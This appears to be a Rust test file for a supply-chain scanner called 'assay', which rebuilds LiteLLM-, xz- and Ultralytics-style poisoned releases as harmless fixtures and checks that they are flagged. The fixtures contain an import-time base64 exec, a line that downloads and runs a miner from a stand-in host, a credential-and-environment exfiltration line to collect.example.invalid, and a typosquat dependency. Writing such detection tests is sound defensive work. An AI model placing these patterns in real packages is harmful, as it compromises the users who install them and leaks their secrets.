//! `assay diff` and `assay provenance` end to end, on harmless reproductions built in the
//! test (payloads are no-ops, hosts `example.invalid`, secrets `FAKE-…`):
//! - LiteLLM 1.82.6 → 1.82.7 (import-time decode-then-exec added to a core module) →
//!   1.82.8 (a new root `.pth`), with no tag for the bad versions;
//! - xz-like: a gitignored m4 macro only in the tarball that repairs and decompresses a
//!   "corrupt" test file;
//! - Ultralytics-like: a wheel whose module downloads and runs a "miner" that the tagged
//!   source lacks;
//! - a cloned SDK whose one changed function posts credentials.
//!
//! Rules: REL001 startup-hook-added, REL004 endpoint-added, REL005 dependency-added,
//! REL006 no-matching-tag, REL007 file-not-in-source, REL008 file-differs-from-source,
//! REL009 ignored-file-shipped, REL010 build-script-payload, REL011 test-file-payload,
//! REL012 wheel-differs-from-sdist;
//! REL002 native-binary-added and REL003 opaque-blob-added are tested in assay_release.
#![allow(clippy::unwrap_used)]

mod common;

use common::{git, has_git, litellm_pth_line, write_sdist, write_wheel, write_wheel_requiring};
use serde_json::Value;
use std::path::Path;
use tempfile::TempDir;

fn run(cwd: &Path, args: &[&str]) -> (i32, Value) {
    let out = assert_cmd::cargo::cargo_bin_cmd!("assay")
        .current_dir(cwd)
        .args(args)
        .args(["--format", "json"])
        .output()
        .unwrap();
    let v: Value = serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
        panic!(
            "{e}: {}\n{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        )
    });
    (out.status.code().unwrap(), v)
}

fn codes(v: &Value) -> Vec<String> {
    v["artifacts"][0]["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["rule"]["code"].as_str().unwrap().to_owned())
        .collect()
}

fn verdict(v: &Value) -> &str {
    v["artifacts"][0]["verdict"].as_str().unwrap()
}

fn finding<'a>(v: &'a Value, code: &str) -> &'a Value {
    v["artifacts"][0]["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["rule"]["code"] == code)
        .unwrap_or_else(|| panic!("no {code} in {v:#}"))
}

const PROXY_SERVER: &str = "\"\"\"Stand-in for litellm.proxy.proxy_server (assay test fixture).\"\"\"\nimport os\n\n\ndef start(port=4000):\n    return os.environ.get(\"PORT\", port)\n";

/// The 1.82.7 change: an import-time decode-then-exec in a core module, the payload a
/// harmless `echo`.
fn proxy_server_bad() -> String {
    use base64::Engine as _;
    format!(
        "{PROXY_SERVER}\nimport base64\nexec(base64.b64decode('{}'))\n",
        base64::engine::general_purpose::STANDARD.encode(common::CANARY)
    )
}

fn litellm(dir: &Path, version: &str, bad: bool, pth: bool) -> std::path::PathBuf {
    let init = format!("__version__ = \"{version}\"\n");
    let server = if bad {
        proxy_server_bad()
    } else {
        PROXY_SERVER.to_owned()
    };
    let line = litellm_pth_line();
    let mut files: Vec<(&str, &[u8])> = vec![
        ("litellm/__init__.py", init.as_bytes()),
        ("litellm/proxy/proxy_server.py", server.as_bytes()),
    ];
    if pth {
        files.push(("litellm_init.pth", line.as_bytes()));
    }
    write_wheel(dir, "litellm", version, &files)
}

#[test]
fn litellm_releases_one_change_at_a_time() {
    let t = TempDir::new().unwrap();
    let d = t.path();
    let v6 = litellm(d, "1.82.6", false, false);
    let v7 = litellm(d, "1.82.7", true, false);
    let v8 = litellm(d, "1.82.8", true, true);
    let s = |p: &Path| p.file_name().unwrap().to_str().unwrap().to_owned();

    // The same release against itself: nothing changed.
    let (code, v) = run(d, &["diff", &s(&v6), &s(&v6)]);
    assert_eq!((code, verdict(&v)), (0, "clean"), "{v:#}");
    assert!(v["artifacts"][0].get("files").is_none(), "{v:#}");

    // 1.82.6 → 1.82.7: a core module gains import-time decode-then-exec.
    let (code, v) = run(d, &["diff", &s(&v6), &s(&v7)]);
    assert_eq!((code, verdict(&v)), (1, "malicious"), "{v:#}");
    let f = finding(&v, "PY001");
    assert_eq!(f["location"]["path"], "litellm/proxy/proxy_server.py");
    assert_eq!(f["context"], "import-time");
    let files = v["artifacts"][0]["files"].as_array().unwrap();
    assert!(
        files
            .iter()
            .any(|c| c["path"] == "litellm/proxy/proxy_server.py" && c["status"] == "changed"),
        "{files:?}"
    );
    assert!(!codes(&v).contains(&"REL001".to_owned()));

    // 1.82.7 → 1.82.8: the decode-then-exec is old news; the new `.pth` is the change.
    let (code, v) = run(d, &["diff", &s(&v7), &s(&v8)]);
    assert_eq!((code, verdict(&v)), (1, "malicious"), "{v:#}");
    let c = codes(&v);
    assert!(
        !c.contains(&"PY001".to_owned())
            || finding(&v, "PY001")["location"]["path"] != "litellm/proxy/proxy_server.py",
        "{c:?}"
    );
    let hook = finding(&v, "REL001");
    assert_eq!(hook["severity"], "high");
    assert_eq!(hook["confidence"], "high");
    assert!(
        hook["evidence"]
            .as_str()
            .unwrap()
            .contains("patch bump from 1.82.7"),
        "{hook}"
    );
    assert_eq!(hook["location"]["path"], "litellm_init.pth");

    // --only-risk-increase lists only the files behind a finding.
    let (_, v) = run(d, &["diff", "--only-risk-increase", &s(&v7), &s(&v8)]);
    let files: Vec<&str> = v["artifacts"][0]["files"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["path"].as_str().unwrap())
        .collect();
    assert_eq!(files, ["litellm_init.pth"], "{v:#}");
}

#[test]
fn provenance_finds_no_tag_for_the_bad_litellm_releases() {
    if !has_git() {
        return;
    }
    let t = TempDir::new().unwrap();
    let d = t.path();
    let repo = d.join("repo");
    std::fs::create_dir_all(repo.join("litellm/proxy")).unwrap();
    std::fs::write(
        repo.join("litellm/__init__.py"),
        "__version__ = \"1.82.6\"\n",
    )
    .unwrap();
    std::fs::write(repo.join("litellm/proxy/proxy_server.py"), PROXY_SERVER).unwrap();
    std::fs::write(
        repo.join("pyproject.toml"),
        "[project]\nname = \"litellm\"\nversion = \"1.82.6\"\n",
    )
    .unwrap();
    git(&repo, &["init", "-q", "-b", "main"]);
    git(&repo, &["add", "."]);
    git(&repo, &["commit", "-q", "-m", "release 1.82.6"]);
    git(&repo, &["tag", "v1.82.6"]);
    let v6 = litellm(d, "1.82.6", false, false);
    let v8 = litellm(d, "1.82.8", true, true);

    let (code, v) = run(d, &["provenance", v6.to_str().unwrap(), "--repo", "repo"]);
    assert_eq!((code, verdict(&v)), (0, "clean"), "{v:#}");
    assert!(
        v["artifacts"][0]["path"]
            .as_str()
            .unwrap()
            .contains("@v1.82.6"),
        "{v:#}"
    );

    let (code, v) = run(d, &["provenance", v8.to_str().unwrap(), "--repo", "repo"]);
    assert_eq!((code, verdict(&v)), (1, "malicious"), "{v:#}");
    let c = codes(&v);
    assert!(
        c.contains(&"REL006".to_owned()) && c.contains(&"PY001".to_owned()),
        "{c:?}"
    );

    // Named against the good tag, the bad release differs from it.
    let (_, v) = run(
        d,
        &[
            "provenance",
            v8.to_str().unwrap(),
            "--repo",
            "repo",
            "--rev",
            "v1.82.6",
        ],
    );
    let c = codes(&v);
    assert!(c.contains(&"REL008".to_owned()), "{c:?}");
    assert!(
        c.contains(&"REL007".to_owned()) || c.contains(&"REL001".to_owned()),
        "{c:?}"
    );
}

/// The shape of xz-utils 5.6.0's `m4/build-to-host.m4`, with its stages as no-ops.
const XZ_LIKE_M4: &str = r##"# build-to-host.m4 serial 30
AC_DEFUN([gl_BUILD_TO_HOST],
[
  gl_am_configmake=`grep -aErls "#{4}[[:alnum:]]{5}#{4}$" $srcdir/ 2>/dev/null`
  gl_path_map='tr "\t \-_" " \t_\-"'
  gl_[$1]_prefix=`echo $gl_am_configmake | sed "s/.*\.//g"`
  gl_[$1]_config='sed \"r\n\" $gl_am_configmake | eval $gl_path_map | $gl_[$1]_prefix -d 2>/dev/null'
])
"##;

/// xz of a harmless `#!/bin/sh` script with `\t`↔space and `-`↔`_` swapped.
const XZ_MANGLED: &str = "/Td6WFoAAATm1rRGAgAhARYAAAB0L+Wj4ACJAH9dABGIQkY99BY0cwoNj5fjBb/AgdPhzdB08vyY8bfIhDyIFnuYnXMH91rGnSN4J8Mw2kPzGTESB7M/JgEdPCNCJoW2JXB8Xfi0dn+1eh1hm71ny448xAAv9OaRY51tXVy3qT5gemCKcUVZxbhKXF88ii7O8SDMZM6Hyi6P3sSoWAAAAIIlA5TyTznJAAGbAYoBAACFJ7IKscRn+wIAAAAABFla";

#[test]
fn xz_like_tarball_against_its_tag() {
    if !has_git() {
        return;
    }
    use base64::Engine as _;
    let bad = base64::engine::general_purpose::STANDARD
        .decode(XZ_MANGLED)
        .unwrap();
    let t = TempDir::new().unwrap();
    let d = t.path();
    let repo = d.join("repo");
    for dir in ["m4", "src", "tests/files"] {
        std::fs::create_dir_all(repo.join(dir)).unwrap();
    }
    std::fs::write(repo.join("m4/.gitignore"), "libtool.m4\nbuild-to-host.m4\n").unwrap();
    std::fs::write(
        repo.join("configure.ac"),
        "AC_INIT([xzdemo], [5.6.0])\ngl_BUILD_TO_HOST\n",
    )
    .unwrap();
    std::fs::write(repo.join("src/crc64.c"), "int crc64(void) { return 0; }\n").unwrap();
    // The "corrupt" test file is committed, as xz's were.
    std::fs::write(repo.join("tests/files/bad-3-corrupt_lzma2.xz"), &bad).unwrap();
    git(&repo, &["init", "-q", "-b", "main"]);
    git(&repo, &["add", "."]);
    git(&repo, &["commit", "-q", "-m", "5.6.0"]);
    git(&repo, &["tag", "v5.6.0"]);

    let files: Vec<(&str, &[u8])> = vec![
        (
            "configure.ac",
            b"AC_INIT([xzdemo], [5.6.0])\ngl_BUILD_TO_HOST\n",
        ),
        ("src/crc64.c", b"int crc64(void) { return 0; }\n"),
        ("tests/files/bad-3-corrupt_lzma2.xz", &bad),
        ("m4/build-to-host.m4", XZ_LIKE_M4.as_bytes()),
    ];
    let tarball = write_sdist(d, "xzdemo", "5.6.0", &files);
    let (code, v) = run(
        d,
        &["provenance", tarball.to_str().unwrap(), "--repo", "repo"],
    );
    assert_eq!((code, verdict(&v)), (1, "malicious"), "{v:#}");
    let ignored = finding(&v, "REL009");
    assert_eq!(
        ignored["location"]["path"],
        "xzdemo-5.6.0/m4/build-to-host.m4"
    );
    assert!(ignored["evidence"].as_str().unwrap().contains(".gitignore"));
    assert_eq!(
        finding(&v, "REL010")["location"]["path"],
        "xzdemo-5.6.0/m4/build-to-host.m4"
    );
    assert_eq!(
        finding(&v, "REL011")["location"]["path"],
        "xzdemo-5.6.0/tests/files/bad-3-corrupt_lzma2.xz"
    );
    // The files that match the tag raise nothing.
    assert!(!v.to_string().contains("crc64.c"), "{v:#}");
}

const DOWNLOADS_OK: &str = "\"\"\"Stand-in for ultralytics.utils.downloads (assay test fixture).\"\"\"\nfrom pathlib import Path\n\n\ndef attempt_download(url, dest):\n    return Path(dest)\n";

#[test]
fn ultralytics_like_wheel_against_its_tag() {
    if !has_git() {
        return;
    }
    let t = TempDir::new().unwrap();
    let d = t.path();
    let repo = d.join("repo");
    std::fs::create_dir_all(repo.join("ultralytics/utils")).unwrap();
    std::fs::write(
        repo.join("ultralytics/__init__.py"),
        "__version__ = \"8.3.41\"\n",
    )
    .unwrap();
    std::fs::write(repo.join("ultralytics/utils/downloads.py"), DOWNLOADS_OK).unwrap();
    std::fs::write(
        repo.join("pyproject.toml"),
        "[project]\nname = \"ultralytics\"\n",
    )
    .unwrap();
    git(&repo, &["init", "-q", "-b", "main"]);
    git(&repo, &["add", "."]);
    git(&repo, &["commit", "-q", "-m", "v8.3.41"]);
    git(&repo, &["tag", "v8.3.41"]);

    let clean = write_wheel(
        d,
        "ultralytics",
        "8.3.41",
        &[
            ("ultralytics/__init__.py", b"__version__ = \"8.3.41\"\n"),
            ("ultralytics/utils/downloads.py", DOWNLOADS_OK.as_bytes()),
        ],
    );
    let (code, v) = run(
        d,
        &["provenance", clean.to_str().unwrap(), "--repo", "repo"],
    );
    assert_eq!((code, verdict(&v)), (0, "clean"), "{v:#}");

    // The poisoned build: the module fetches and starts a "miner" when imported.
    let poisoned = format!(
        "{DOWNLOADS_OK}\nimport os, subprocess, urllib.request\n_p = '/tmp/.cache-xmrig'\nurllib.request.urlretrieve('https://miner.example.invalid/xmrig', _p)\nos.chmod(_p, 0o755)\nsubprocess.Popen([_p, '--donate-level', '1'])\n"
    );
    let bad_dir = d.join("bad");
    std::fs::create_dir_all(&bad_dir).unwrap();
    let bad = write_wheel(
        &bad_dir,
        "ultralytics",
        "8.3.41",
        &[
            ("ultralytics/__init__.py", b"__version__ = \"8.3.41\"\n"),
            ("ultralytics/utils/downloads.py", poisoned.as_bytes()),
        ],
    );
    let (code, v) = run(d, &["provenance", bad.to_str().unwrap(), "--repo", "repo"]);
    assert_eq!((code, verdict(&v)), (1, "malicious"), "{v:#}");
    assert_eq!(
        finding(&v, "REL008")["location"]["path"],
        "ultralytics/utils/downloads.py"
    );
    let c = codes(&v);
    assert!(c.iter().any(|c| c.starts_with("PY")), "{c:?}");
    assert!(c.contains(&"REL004".to_owned()), "{c:?}");

    // The release's files together: the sdist is clean, and the wheel differs from it.
    write_sdist(
        &bad_dir,
        "ultralytics",
        "8.3.41",
        &[
            ("ultralytics/__init__.py", b"__version__ = \"8.3.41\"\n"),
            ("ultralytics/utils/downloads.py", DOWNLOADS_OK.as_bytes()),
            ("pyproject.toml", b"[project]\nname = \"ultralytics\"\n"),
        ],
    );
    let (code, v) = run(d, &["provenance", "bad", "--repo", "repo"]);
    assert_eq!(code, 1, "{v:#}");
    let arts = v["artifacts"].as_array().unwrap();
    assert_eq!(arts.len(), 2, "{v:#}");
    for a in arts {
        let wheel = a["path"].as_str().unwrap().contains(".whl");
        let codes: Vec<&str> = a["findings"]
            .as_array()
            .unwrap()
            .iter()
            .map(|f| f["rule"]["code"].as_str().unwrap())
            .collect();
        assert_eq!(codes.contains(&"REL012"), wheel, "{a:#}");
        let expect = if wheel { "malicious" } else { "clean" };
        assert_eq!(a["verdict"], expect, "{a:#}");
    }
}

const SDK_CLIENT: &str = "\"\"\"A small API client (assay test fixture).\"\"\"\nimport os\nimport requests\n\nBASE = 'https://api.vendor.example.invalid/v1'\n\n\nclass Client:\n    def __init__(self, api_key=None):\n        self.api_key = api_key or os.environ.get('VENDOR_API_KEY')\n\n    def complete(self, prompt):\n        return requests.post(BASE + '/complete', json={'prompt': prompt}, headers={'Authorization': 'Bearer ' + self.api_key}).json()\n";

#[test]
fn cloned_sdk_with_one_function_changed() {
    let t = TempDir::new().unwrap();
    let d = t.path();
    let orig_dir = d.join("orig");
    let clone_dir = d.join("clone");
    std::fs::create_dir_all(&orig_dir).unwrap();
    std::fs::create_dir_all(&clone_dir).unwrap();
    let original = write_wheel_requiring(
        &orig_dir,
        "vendorsdk",
        "2.0.0",
        &[("vendorsdk/client.py", SDK_CLIENT.as_bytes())],
        &["requests>=2"],
    );
    let changed = SDK_CLIENT.replace(
        "        self.api_key = api_key or os.environ.get('VENDOR_API_KEY')\n",
        "        self.api_key = api_key or os.environ.get('VENDOR_API_KEY')\n        requests.post('https://collect.example.invalid/k', json={'key': self.api_key, 'env': dict(os.environ)}, timeout=3)\n",
    );
    let clone = write_wheel_requiring(
        &clone_dir,
        "vendorsdk",
        "2.0.1",
        &[("vendorsdk/client.py", changed.as_bytes())],
        &["requests>=2", "reqeusts"],
    );
    let (code, v) = run(
        d,
        &["diff", original.to_str().unwrap(), clone.to_str().unwrap()],
    );
    assert_ne!(verdict(&v), "clean", "{v:#}");
    assert_eq!(code, i32::from(verdict(&v) == "malicious"));
    let host = finding(&v, "REL004");
    assert!(
        host["evidence"]
            .as_str()
            .unwrap()
            .contains("collect.example.invalid"),
        "{host}"
    );
    let dep = finding(&v, "REL005");
    assert!(
        dep["evidence"].as_str().unwrap().contains("reqeusts"),
        "{dep}"
    );
    assert_eq!(dep["severity"], "high");
    // The original's own host and dependency are not news.
    assert!(
        !v.to_string().contains("api.vendor.example.invalid"),
        "{v:#}"
    );
    assert!(
        v["artifacts"][0]["files"]
            .as_array()
            .unwrap()
            .iter()
            .any(|c| c["path"] == "vendorsdk/client.py" && c["status"] == "changed")
    );
}

#[test]
fn a_directory_of_release_files_pairs_by_kind() {
    let t = TempDir::new().unwrap();
    let d = t.path();
    let (a, b) = (d.join("a"), d.join("b"));
    std::fs::create_dir_all(&a).unwrap();
    std::fs::create_dir_all(&b).unwrap();
    let init = b"x = 1\n".as_slice();
    write_wheel(&a, "pkg", "1.0.0", &[("pkg/__init__.py", init)]);
    write_sdist(&a, "pkg", "1.0.0", &[("pkg/__init__.py", init)]);
    // 1.0.1: the sdist is clean, the wheel alone carries a `.pth` (a wheel-only payload).
    let line = litellm_pth_line();
    write_wheel(
        &b,
        "pkg",
        "1.0.1",
        &[("pkg/__init__.py", init), ("pkg_init.pth", line.as_bytes())],
    );
    write_sdist(&b, "pkg", "1.0.1", &[("pkg/__init__.py", init)]);
    let (code, v) = run(d, &["diff", "a", "b"]);
    assert_eq!(code, 1, "{v:#}");
    let arts = v["artifacts"].as_array().unwrap();
    assert_eq!(arts.len(), 2, "{v:#}");
    for art in arts {
        let p = art["path"].as_str().unwrap();
        let expect = if p.ends_with(".whl") {
            "malicious"
        } else {
            "clean"
        };
        assert_eq!(art["verdict"], expect, "{p}: {art:#}");
        assert!(p.contains("1.0.0") && p.contains("1.0.1"), "{p}");
    }
}

/// The text and JSON reports of a diff (the SARIF and HTML reporters are the scan's,
/// snapshotted in cli.rs).
#[test]
fn diff_output_snapshots() {
    let t = TempDir::new().unwrap();
    let d = t.path();
    litellm(d, "1.82.7", true, false);
    litellm(d, "1.82.8", true, true);
    let out = |format: &str| {
        let o = assert_cmd::cargo::cargo_bin_cmd!("assay")
            .current_dir(d)
            .env("NO_COLOR", "1")
            .args([
                "diff",
                "litellm-1.82.7-py3-none-any.whl",
                "litellm-1.82.8-py3-none-any.whl",
                "--format",
                format,
            ])
            .output()
            .unwrap();
        String::from_utf8(o.stdout).unwrap()
    };
    insta::assert_snapshot!("diff_text", out("text"));
    let json: Value = serde_json::from_str(&out("json")).unwrap();
    insta::assert_json_snapshot!("diff_json", json, {".tool.version" => "[version]"});
}
